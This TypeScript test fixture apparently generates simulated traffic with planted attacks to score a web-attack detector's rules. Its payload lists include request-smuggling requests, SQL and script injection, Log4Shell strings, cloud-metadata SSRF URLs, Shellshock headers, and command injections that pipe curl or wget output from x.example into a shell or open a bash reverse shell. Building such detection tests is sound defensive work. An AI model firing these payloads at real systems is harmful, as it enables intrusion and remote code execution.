import type { RuleId } from '../../../src/findings/rules.ts';
import { Dice, request, response, type Event, type Headers } from './world.ts';

/** An attack that is planted: the rule that should find it, and by whom; '' where many clients take part. */
export interface Attack {
  readonly rule: RuleId;
  readonly source: string;
  readonly endpoint: number;
  readonly events: readonly Event[];
  /** Other rules that are right to speak up, too. */
  readonly also: readonly RuleId[];
  /** What is known not to be seen: it counts as missed all the same. */
  readonly isHard: boolean;
}

const WEB = 1;
const API = 2;

/** All attacks of one day, each by clients of its own, at times between `from` and `to`, seconds. */
export function attacks(seed: number, from: number, to: number): Attack[] {
  const dice = new Dice(seed);
  let clients = 0;
  const client = (): string => `45.${seed % 200}.${(++clients >> 8) & 255}.${clients & 255}`;
  const when = (length: number): number => from + dice.next() * (to - from - length);
  const plant = (rule: RuleId, events: (client: string, at: number) => Event[], more: Partial<Attack> = {}): Attack => {
    const source = client();
    return { rule, source, endpoint: WEB, events: events(source, when(120)), also: [], isHard: false, ...more };
  };
  const one = (rule: RuleId, text: string, status: number, more: Partial<Attack> = {}, headers: Headers = {}): Attack =>
    plant(rule, (source, at) => [{ at, client: source, endpoint: WEB, request: text, response: status === 0 ? '' : response(status, headers), alone: true }], more);
  const get = (rule: RuleId, target: string, headers: Headers = {}, more: Partial<Attack> = {}): Attack => one(rule, request('GET', target, headers), 404, more);

  return [
    ...floods(dice, plant),
    ...scans(dice, plant),
    ...logins(dice, plant),
    ...[...SMUGGLING].map(([text, isHard]) => one('request-smuggling', text, 0, { isHard })),
    ...AMBIGUOUS.map((text) => one('ambiguous-head', text, 0)),
    ...VIOLATIONS.map((text) => one('protocol-violation', text, 0)),
    ...[20, 60, 200].map((kib) => one('oversized-head', request('GET', '/', { 'X-Filler': 'x'.repeat(kib * 1024) }), 0)),
    ...['TRACE', 'TRACK', 'DEBUG'].map((method) => one('unusual-method', request(method, '/'), 200)),
    ...['PROPFIND', 'MKCOL', 'JEFF', 'SEARCH'].map((method) => one('unusual-method', request(method, '/'), 405)),
    one('unusual-method', 'CONNECT internal.example:22 HTTP/1.1\r\nHost: internal.example:22\r\n\r\n', 405),
    ...PROBES.flatMap(([rule, targets]) => targets.map((target) => get(rule, target, {}, { also: OVERLAPPING }))),
    ...HARD_PROBES.map(([rule, target]) => get(rule, target, {}, { also: OVERLAPPING, isHard: true })),
    ...HEADER_PROBES.map(([rule, headers]) => get(rule, '/', headers, { also: OVERLAPPING })),
    ...AGENTS.map((agent) => get('scanner-agent', '/', { 'User-Agent': agent })),
    ...['/.env', '/backup.sql', '/.git/config'].map((target) => one('exposed-file', request('GET', target), 200, { also: ['sensitive-file'] }, { 'Content-Type': 'text/plain' })),
  ];
}

/** Payloads that are several things at once. */
const OVERLAPPING: readonly RuleId[] = ['path-traversal', 'sql-injection', 'script-injection', 'command-injection', 'code-injection', 'metadata-access', 'sensitive-file', 'secret-in-url'];

type Plant = (rule: RuleId, events: (client: string, at: number) => Event[], more?: Partial<Attack>) => Attack;

function floods(dice: Dice, plant: Plant): Attack[] {
  const page = (source: string, at: number): Event => ({ at, client: source, endpoint: WEB, request: request('GET', `/search?q=${dice.word(5)}`), response: response(200) });
  return [
    plant('request-flood', (_, at) => many(600 * 40, (i) => page(`46.0.${i % 40}.${i % 250}`, at + i / 600)), { source: '' }),
    ...[100, 200, 400].map((rate) => plant('source-flood', (source, at) => many(rate * 30, (i) => page(source, at + i / rate)), { also: ['request-flood'] })),
    // Slowly enough to be taken for a new habit.
    plant('source-flood', (source, at) => many(40 * 60, (i) => page(source, at + i / 40)), { isHard: true }),
  ];
}

const WORDS = ['admin', 'backup', 'test', 'old', 'dev', 'api', 'config', 'db', 'login', 'shell', 'tmp', 'uploads', 'private', 'cgi-bin', 'console', 'manager', 'status', 'debug'];

function scans(dice: Dice, plant: Plant): Attack[] {
  const scan = (perSecond: number, count: number, found: number) => (source: string, at: number) =>
    many(count, (i): Event => ({
      at: at + i / perSecond,
      client: source,
      endpoint: WEB,
      request: request('GET', `/${dice.of(WORDS)}${dice.of(['', '.php', '.bak', '/', '.zip'])}${i % 3 === 0 ? `/${dice.of(WORDS)}` : ''}${i % 2 === 0 ? dice.below(90) : ''}`),
      response: response(dice.chance(found) ? 200 : dice.of([404, 404, 404, 403, 401])),
    }));
  return [
    plant('path-scan', scan(20, 400, 0.02)),
    plant('path-scan', scan(5, 150, 0.05)),
    plant('path-scan', scan(2, 100, 0.15)),
    plant('path-scan', scan(0.5, 60, 0.02)),
    plant('path-scan', scan(0.05, 6, 0), { isHard: true }),
    ...[10, 1].map((perSecond) =>
      plant('id-scan', (source, at) =>
        many(110, (i) => ({ at: at + i / perSecond, client: source, endpoint: API, request: request('GET', `/v1/invoices/${70_000 + i}`, { Authorization: 'Bearer own' }), response: response(dice.chance(0.04) ? 200 : 403) })), { endpoint: API, also: ['path-scan'] }),
    ),
    ...[20, 60].map((count) => plant('host-scan', (source, at) => many(count, (i) => ({ at: at + i, client: source, endpoint: WEB, request: request('GET', '/', { Host: `${dice.word(6)}.example.com` }), response: response(404) })))),
    ...[0.2, 0.5, 0.9].map((share) =>
      plant('fuzzing', (source, at) =>
        many(120, (i) => ({ at: at + i / 3, client: source, endpoint: API, request: request('GET', `/v1/items?limit=${dice.hex(3)}&cursor=${dice.hex(12)}`), response: response(dice.chance(share) ? 500 : 400) })), { endpoint: API }),
    ),
  ];
}

function logins(dice: Dice, plant: Plant): Attack[] {
  const login = (source: string, at: number, endpoint: number, status: number): Event => ({
    at,
    client: source,
    endpoint,
    request: request('POST', endpoint === WEB ? '/login' : '/oauth/token', {}, `user=${dice.word(4 + dice.below(12))}@example.com&password=${dice.word(6 + dice.below(10))}`),
    response: response(status),
  });
  const bearer = (source: string, at: number): Event => ({ at, client: source, endpoint: API, request: request('GET', '/v1/me', { Authorization: `Bearer ${dice.hex(40)}` }), response: response(401) });
  const basic = (source: string, at: number): Event => ({ at, client: source, endpoint: WEB, request: request('GET', '/internal/', { Authorization: `Basic ${Buffer.from(`admin:${dice.word(8)}`).toString('base64')}` }), response: response(401) });
  return [
    ...[5, 1, 0.4].map((rate) => plant('credential-stuffing', (source, at) => many(100, (i) => login(source, at + i / rate, WEB, dice.chance(0.03) ? 302 : 401)))),
    plant('credential-stuffing', (source, at) => many(60, (i) => login(source, at + i, API, 400)), { endpoint: API }),
    plant('credential-stuffing', (_, at) => many(50 * 30, (i) => login(`47.0.${i % 3}.${i % 200}`, at + i / 50, WEB, 401)), { source: '' }),
    // From everywhere, and slowly: nothing tells it from people who mistype.
    plant('credential-stuffing', (_, at) => many(60, (i) => login(`48.0.0.${i}`, at + i * 2, API, 400)), { source: '', endpoint: API, isHard: true }),
    ...[4, 1].map((rate) => plant('credential-guessing', (source, at) => many(60, (i) => bearer(source, at + i / rate)), { endpoint: API })),
    plant('credential-guessing', (source, at) => many(60, (i) => basic(source, at + i / 2)), { also: ['path-scan'] }),
  ];
}

const SMUGGLED = '0\r\n\r\nGET /admin HTTP/1.1\r\nX: y';

/** Requests whose end is open to interpretation, and whether that is beyond what a head shows. */
const SMUGGLING: readonly (readonly [text: string, isHard: boolean])[] = [
  [`POST / HTTP/1.1\r\nHost: a\r\nContent-Length: ${SMUGGLED.length}\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED}`, false],
  ['POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\n\r\n', false],
  ['POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n', false],
  ['POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n', false],
  ['POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n', false],
  ['POST / HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n', false],
  ['POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!', false],
  ['POST / HTTP/1.1\r\nHost: a\r\nContent-Length: +5\r\n\r\nhello', false],
  ['POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5, 6\r\n\r\nhello!', false],
  // A server that does not read the content of GET: only its own answers show it.
  ['GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 23\r\n\r\nGET /404 HTTP/1.1\r\nX: y', true],
];

const AMBIGUOUS: readonly string[] = [
  'GET / HTTP/1.1\nHost: a\n\n',
  'GET / HTTP/1.1\r\nHost : a\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nX: 1\r\n  folded\r\n\r\n',
  'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\nX: y\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nno colon here\r\n\r\n',
];

const VIOLATIONS: readonly string[] = [
  'GET / HTTP/1.1\r\nHost: a\r\nno-colon-here\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nX: a\x00b\r\n\r\n',
  'GET /a b c HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET noslash HTTP/1.1\r\nHost: a\r\n\r\n',
  'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n',
  'POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhelloworld\r\n0\r\n\r\n',
];

const enc = encodeURIComponent;

/** As they are known from public lists of payloads. */
const PROBES: readonly (readonly [RuleId, readonly string[]])[] = [
  ['path-traversal', [
    '/../../../../etc/passwd', '/static/../../../../etc/hosts', '/%2e%2e/%2e%2e/secret', '/..%2f..%2f..%2fetc%2fpasswd', '/%252e%252e%252f%252e%252e%252fetc/hosts', '/..%c0%af..%c0%afwinnt/win.ini',
    '/download?file=../../../../etc/shadow', '/download?file=..%5c..%5c..%5cwindows%5cwin.ini', '/view?page=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex', '/image?name=cat.png%00.php', '/app/..;/manager/html',
    '/load?f=....//....//etc/hosts', '/show?u=file:///etc/hosts', '/%u002e%u002e/%u002e%u002e/boot.ini',
  ]],
  ['sql-injection', [
    `/p?id=${enc("1' OR '1'='1")}`, `/p?id=${enc("1' or 1=1--")}`, `/p?id=${enc('1 UNION SELECT username,password FROM users')}`, '/p?id=1+union/**/all/**/select+1,2,3', `/p?id=${enc("'; DROP TABLE users;--")}`,
    `/p?id=${enc("1' AND SLEEP(5)-- -")}`, `/p?id=${enc("1;WAITFOR DELAY '0:0:5'--")}`, `/p?id=${enc("1' AND extractvalue(1,concat(0x7e,version()))-- ")}`, '/p?id=1%20and%201=1', `/p?id=${enc('1 OR 1=1')}`, `/p?user=${enc("admin'--")}`,
    `/p?id=${enc('-1 union select 1,table_name from information_schema.tables')}`, `/p?id=${enc("1';select pg_sleep(10)--")}`, '/p?id=1%2527%2520or%2520%25271%2527=%25271', `/p?id=${enc('1") or ("1"="1')}`,
  ]],
  ['script-injection', [
    `/s?q=${enc('<script>alert(1)</script>')}`, `/s?q=${enc('"><script src=//x.example/a.js></script>')}`, `/s?q=${enc('<img src=x onerror=alert(1)>')}`, `/s?q=${enc('<svg/onload=alert(1)>')}`, `/s?q=${enc('" onfocus=alert(1) autofocus="')}`,
    `/r?next=${enc('javascript:alert(document.domain)')}`, `/s?q=${enc('<ScRiPt>confirm(1)</sCrIpT>')}`, `/s?q=${enc('<iframe src=javascript:alert(1)>')}`, `/s?q=${enc('<body onload=alert(1)>')}`, '/s?q=%253Cscript%253Ealert(1)%253C/script%253E',
  ]],
  ['command-injection', [
    `/ping?host=${enc('127.0.0.1; cat /tmp/x')}`, `/ping?host=${enc('127.0.0.1|id')}`, `/ping?host=${enc('$(whoami)')}`, `/ping?host=${enc('`id`')}`, `/ping?host=${enc('8.8.8.8&&curl http://x.example/s.sh|/bin/sh')}`, `/ping?host=${enc(';wget http://x.example/a -O- | sh')}`,
    `/cgi-bin/a?x=${enc('/bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')}`, `/run?c=${enc('cmd.exe /c dir')}`, `/ping?host=${enc('1.1.1.1\n;id')}`,
  ]],
  ['code-injection', [
    `/s?q=${enc('${jndi:ldap://x.example/a}')}`, `/s?q=${enc('${${lower:j}ndi:ldap://x.example/a}')}`, `/s?q=${enc('{{7*7}}')}`, `/s?q=${enc('${7*7}')}`, `/s?q=${enc('#{7*7}')}`, `/s?q=${enc('<%= 7*7 %>')}`,
    `/s?q=${enc("%{(#a='x')}")}`, '/s?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', '/s?__proto__[admin]=1', `/s?q=${enc('<?php system("id"); ?>')}`,
  ]],
  ['metadata-access', [
    `/fetch?url=${enc('http://169.254.169.254/latest/meta-data/iam/')}`, `/fetch?url=${enc('http://metadata.google.internal/computeMetadata/v1/')}`, `/fetch?url=${enc('http://2852039166/')}`, `/fetch?url=${enc('http://[fd00:ec2::254]/')}`, `/fetch?url=${enc('gopher://127.0.0.1:6379/_INFO')}`, '/fetch?url=http%253A%252F%252F169.254.169.254%252F',
  ]],
  ['sensitive-file', ['/.env', '/.git/HEAD', '/.env.local', '/app/.env', '/.aws/credentials', '/wp-config.php.bak', '/.DS_Store', '/server-status', '/actuator/heapdump', '/phpinfo.php', '/backup.sql.gz', '/.ssh/id_rsa', '/%2egit/config']],
  ['secret-in-url', [
    '/login?user=a&password=hunter2x', '/api?access_token=0123456789abcdef0123', `/api?jwt=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${'a'.repeat(43)}`, `/cb?x=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${'a'.repeat(43)}`, '/put?key=AKIAIOSFODNN7EXAMPLE', `/hook?t=ghp_${'a'.repeat(36)}`,
    `/go?u=${enc('https://user:passw0rd@host.example/')}`, '/map?key=AIzaSyA1234567890abcdefghijklmnopqrstuv', `/a;jsessionid=${'0A'.repeat(16)}`, '/api?api_key=0123456789abcdef0123', '/pay?k=sk_live_0123456789abcdefghij',
  ]],
];

/** Beyond a small set of patterns, or beyond the head. */
const HARD_PROBES: readonly (readonly [RuleId, string])[] = [
  ['sql-injection', `/p?id=${enc('1 or 2>1')}`],
  ['sql-injection', `/p?sort=${enc('(case when 1 then id else name end)')}`],
  ['script-injection', `/s?q=${enc('<details open ontoggle=alert(1)>')}`],
  ['command-injection', `/ping?host=${enc('x$IFS;c\\at${IFS}x')}`],
  ['path-traversal', `/download?f=${enc('/var/log/app.log')}`],
  ['code-injection', `/s?q=${enc("{{config.items()}}")}`],
  ['metadata-access', `/fetch?url=${enc('http://rebind.example/')}`],
  ['secret-in-url', '/api?k=correcthorsebatterystaple'],
];

const HEADER_PROBES: readonly (readonly [RuleId, Headers])[] = [
  ['code-injection', { 'User-Agent': '${jndi:ldap://x.example/a}' }],
  ['code-injection', { 'X-Api-Version': '${jndi:${lower:l}dap://x.example/a}' }],
  ['code-injection', { 'Content-Type': "%{(#_='multipart/form-data')}" }],
  ['command-injection', { 'User-Agent': '() { :;}; /bin/ping x' }],
  ['command-injection', { Referer: '() { :; }; echo x' }],
  ['sql-injection', { 'User-Agent': "x' AND SLEEP(5)-- " }],
  ['sql-injection', { 'X-Forwarded-For': "1' or '1'='1" }],
];

const AGENTS: readonly string[] = ['sqlmap/1.8#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'gobuster/3.6', 'Fuzz Faster U Fool v2.1.0', 'Mozilla/5.0 zgrab/0.x', 'WPScan v3.8.25'];

function many(count: number, make: (index: number) => Event): Event[] {
  return Array.from({ length: count }, (_, i) => make(i));
}
